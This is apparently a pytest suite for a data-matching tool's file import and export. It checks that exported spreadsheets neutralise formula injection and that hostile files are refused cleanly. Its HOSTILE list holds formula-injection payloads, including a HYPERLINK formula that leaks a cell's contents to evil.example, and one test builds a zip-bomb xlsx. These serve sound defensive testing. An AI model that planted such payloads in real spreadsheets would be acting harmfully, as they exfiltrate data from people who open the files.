"""Hostile and broken files: each gives a clean row error or one clear file-level refusal,
quickly, and writes nothing; exports neutralise formula injection and still round-trip."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import random
import time
import zipfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given
from hypothesis import settings as hsettings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from sqlalchemy import func, select

from matcher.auth.actors import SYSTEM_CLI
from matcher.errors import ImportRejectedError, InvalidInputError
from matcher.formulas import neutralise, restore
from matcher.imports.readers import read_table
from matcher.imports.service import import_file
from matcher.models import Society

SOCIETY_HEADER = ["external_id", "name", "disciplines", "description", "contact_name"]
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点我")',
    "+1+2",
    "-",
    "@SUM(A1)",
    "'=already quoted",
    "''+twice quoted",
    "-2+3",
]


def _societies_count(store) -> int:
    with store.transaction() as s:
        return s.scalar(select(func.count()).select_from(Society))


def _no_traceback(result) -> None:
    assert "Traceback" not in result.output, result.output


# ---- B: formula injection -----------------------------------------------------------------


def test_neutralise_and_restore_are_inverse():
    for text in [*HOSTILE, "普通文本", "'plain quote", "", "0371-12345678", "\ttab", "\rcr"]:
        escaped = neutralise(text)
        assert restore(escaped) == text
        assert not escaped.startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_exports_neutralise_formulas_and_reimport_unchanged(cli, store, tmp_path, fmt):
    rows = [
        {
            "external_id": f"S{i}",
            "name": text,
            "disciplines": [text, "机械"],
            "description": text,
            "contact_name": text,
        }
        for i, text in enumerate(HOSTILE, start=1)
    ]
    source = tmp_path / "societies.jsonl"  # jsonl keeps every value as it is
    source.write_text("\n".join(json.dumps(r, ensure_ascii=False) for r in rows), "utf-8")
    assert cli("import", "societies", source).exit_code == 0
    out = tmp_path / f"export.{fmt}"
    r = cli("export", "societies", "--out", out)
    assert r.exit_code == 0, r.output
    if fmt == "csv":
        cells = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"))))
    else:
        sheet = load_workbook(out, read_only=True).worksheets[0]
        cells = [list(row) for row in sheet.iter_rows(values_only=True)]
    header, *body = cells
    at = [header.index(c) for c in ("name", "description", "contact_name")]
    for row in body:
        for cell in (row[i] for i in at):
            assert isinstance(cell, str) and cell.startswith("'"), cell
    again = cli("import", "societies", out)
    assert again.exit_code == 0, again.output
    assert f"0 created, 0 updated, {len(HOSTILE)} unchanged" in again.stdout
    with store.transaction() as s:
        names = set(s.scalars(select(Society.name)))
    assert names == set(HOSTILE)


def test_numbers_are_not_quoted():
    from matcher.exports.formats import render

    data = render(["name", "score", "rank"], [["-", -0.5, 3]], "csv", "t").decode("utf-8-sig")
    assert data.splitlines()[1] == "'-,-0.5,3"


# ---- D: hostile files ----------------------------------------------------------------------


def _xlsx_bytes(rows) -> bytes:
    workbook = Workbook()
    for row in rows:
        workbook.active.append(row)
    buf = io.BytesIO()
    workbook.save(buf)
    return buf.getvalue()


def _refused(cli, store, path: Path, *words: str, seconds: float = 10.0):
    start = time.perf_counter()
    result = cli("import", "societies", path)
    elapsed = time.perf_counter() - start
    assert result.exit_code == 1, result.output
    _no_traceback(result)
    for word in words:
        assert word in result.output, result.output
    assert _societies_count(store) == 0
    assert elapsed < seconds, elapsed
    return result


@pytest.mark.parametrize("suffix", [".csv", ".xlsx", ".jsonl"])
def test_random_bytes_are_refused_cleanly(cli, store, tmp_path, suffix):
    rng = random.Random(13)
    path = tmp_path / f"random{suffix}"
    path.write_bytes(bytes(rng.randrange(256) for _ in range(20_000)))
    _refused(cli, store, path)


def test_truncated_xlsx_is_refused(cli, store, tmp_path):
    data = _xlsx_bytes([SOCIETY_HEADER] + [[f"S{i}", f"学会{i}", "", "", ""] for i in range(500)])
    path = tmp_path / "cut.xlsx"
    path.write_bytes(data[: len(data) // 2])
    _refused(cli, store, path, "xlsx")


def _with_member(data: bytes, name: str, payload: bytes) -> bytes:
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as src,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst,
    ):
        for item in src.infolist():
            if item.filename != name:
                dst.writestr(item, src.read(item.filename))
        dst.writestr(name, payload)
    return out.getvalue()


def test_xlsx_with_a_million_shared_strings_is_refused_quickly(cli, store, tmp_path):
    base = _xlsx_bytes([SOCIETY_HEADER, ["S1", "学会", "", "", ""]])
    strings = b"<si><t>a</t></si>" * 1_000_000
    shared = (
        b'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/'
        b'spreadsheetml/2006/main" count="1000000" uniqueCount="1000000">' + strings + b"</sst>"
    )
    path = tmp_path / "bomb.xlsx"
    path.write_bytes(_with_member(base, "xl/sharedStrings.xml", shared))
    assert path.stat().st_size < 200_000
    _refused(cli, store, path, "zip bomb", seconds=3.0)


def test_xlsx_expanding_past_the_limit_is_refused(cli, store, tmp_path, monkeypatch):
    from matcher.config import get_settings

    monkeypatch.setenv("MATCHER_MAX_XLSX_EXPANDED_BYTES", str(2 * 1024 * 1024))
    get_settings.cache_clear()
    rng = random.Random(1)
    rows = [SOCIETY_HEADER] + [
        [f"S{i}", "".join(rng.choice("学会协会研究院所") for _ in range(200)), "", "", ""]
        for i in range(5000)
    ]
    path = tmp_path / "big.xlsx"
    path.write_bytes(_xlsx_bytes(rows))
    _refused(cli, store, path, "MiB")


def test_unevaluated_formula_cells_are_refused(cli, store, tmp_path):
    path = tmp_path / "formulas.xlsx"
    path.write_bytes(_xlsx_bytes([SOCIETY_HEADER, ["S1", '=CONCAT("学","会")', "", "", ""]]))
    _refused(cli, store, path, "B2", "formula")


def test_csv_with_a_10_mb_cell_is_refused(cli, store, tmp_path):
    path = tmp_path / "huge.csv"
    path.write_text(",".join(SOCIETY_HEADER) + "\nS1,学会," + "长" * 10_000_000 + ",,\n", "utf-8")
    _refused(cli, store, path, "131072")


def test_jsonl_with_an_oversized_cell_is_a_row_error(cli, store, tmp_path):
    path = tmp_path / "cell.jsonl"  # (openpyxl itself cuts xlsx cells at 32,767 characters)
    rows = [{"external_id": "S1", "name": "学会", "description": "长" * 200_000}]
    path.write_text("\n".join(json.dumps(r, ensure_ascii=False) for r in rows), "utf-8")
    _refused(cli, store, path, "cell.jsonl:1:description:", "131072")


def test_duplicate_external_ids_within_a_file_are_row_errors(cli, store, make_file):
    path = make_file(
        "dup.csv", [SOCIETY_HEADER, ["S1", "甲", "", "", ""], ["S1", "乙", "", "", ""]]
    )
    _refused(cli, store, path, "dup.csv:3:external_id:", "repeats row 2")


def test_csv_mixing_utf8_and_gbk_rows_is_refused(cli, store, tmp_path):
    path = tmp_path / "mixed.csv"
    path.write_bytes(
        (",".join(SOCIETY_HEADER) + "\n").encode()
        + "S1,河南省机械工程学会,,,\n".encode()
        + "S2,河南省化学会,,,\n".encode("gbk")
    )
    _refused(cli, store, path, "UTF-8", "GBK", "line 2", "line 3")


def test_pure_gbk_and_pure_utf8_files_still_import(cli, store, tmp_path):
    for encoding in ("gbk", "utf-8"):
        path = tmp_path / f"ok-{encoding}.csv"
        text = ",".join(SOCIETY_HEADER) + "\nS1,河南省机械工程学会,机械,联通移动,\n"
        path.write_bytes(text.encode(encoding))
        r = cli("import", "societies", path)
        assert r.exit_code == 0, r.output


def test_too_many_rows_are_refused_before_parsing(cli, store, tmp_path, monkeypatch):
    from matcher.config import get_settings

    monkeypatch.setenv("MATCHER_MAX_IMPORT_ROWS", "1000")
    get_settings.cache_clear()
    path = tmp_path / "rows.csv"
    lines = [",".join(SOCIETY_HEADER)] + [f"S{i},学会{i},,," for i in range(1200)]
    path.write_text("\n".join(lines) + "\n", "utf-8")
    _refused(cli, store, path, "1000")


# ---- hypothesis: the readers never fail in an unplanned way -----------------------------


def _valid_bytes(suffix: str) -> bytes:
    rows = [SOCIETY_HEADER, ["S1", "学会", "机械", "描述", "王工"], ["S2", "协会", "", "", ""]]
    if suffix == ".xlsx":
        return _xlsx_bytes(rows)
    if suffix == ".jsonl":
        return "\n".join(
            json.dumps(dict(zip(SOCIETY_HEADER, r, strict=True))) for r in rows[1:]
        ).encode()
    return "\n".join(",".join(r) for r in rows).encode("utf-8")


def _read_cleanly(name: str, data: bytes) -> None:
    with contextlib.suppress(InvalidInputError):
        read_table(name, data)


FUZZ = hsettings(
    max_examples=150, deadline=None, database=None, suppress_health_check=list(HealthCheck)
)


@FUZZ
@given(data=st.binary(max_size=4096), suffix=st.sampled_from([".csv", ".xlsx", ".jsonl"]))
def test_fuzz_random_bytes(data, suffix):
    _read_cleanly(f"f{suffix}", data)


@FUZZ
@given(
    suffix=st.sampled_from([".csv", ".xlsx", ".jsonl"]),
    edits=st.lists(st.tuples(st.floats(0, 1), st.integers(0, 255)), min_size=1, max_size=20),
    cut=st.floats(0.05, 1.0),
)
def test_fuzz_damaged_valid_files(suffix, edits, cut):
    data = bytearray(_valid_bytes(suffix))
    for where, byte in edits:
        data[min(len(data) - 1, int(where * len(data)))] = byte
    _read_cleanly(f"f{suffix}", bytes(data[: max(1, int(cut * len(data)))]))


@FUZZ
@given(
    text=st.text(max_size=300),
    encoding=st.sampled_from(["utf-8", "gb18030", "utf-16", "utf-8-sig"]),
)
def test_fuzz_text_in_any_encoding(text, encoding):
    _read_cleanly("f.csv", text.encode(encoding, "replace"))
    _read_cleanly("f.jsonl", text.encode(encoding, "replace"))


@hsettings(max_examples=40, deadline=None, database=None, suppress_health_check=list(HealthCheck))
@given(data=st.binary(min_size=1, max_size=2048), suffix=st.sampled_from([".csv", ".jsonl"]))
def test_fuzz_import_writes_nothing_on_refusal(store, data, suffix):
    before = _societies_count(store)
    try:
        with store.transaction() as s:
            import_file(
                session=s, actor=SYSTEM_CLI, kind="societies", filename=f"f{suffix}", data=data
            )
    except (ImportRejectedError, InvalidInputError):
        assert _societies_count(store) == before


def test_environment_unchanged():
    assert "MATCHER_MAX_IMPORT_ROWS" not in os.environ
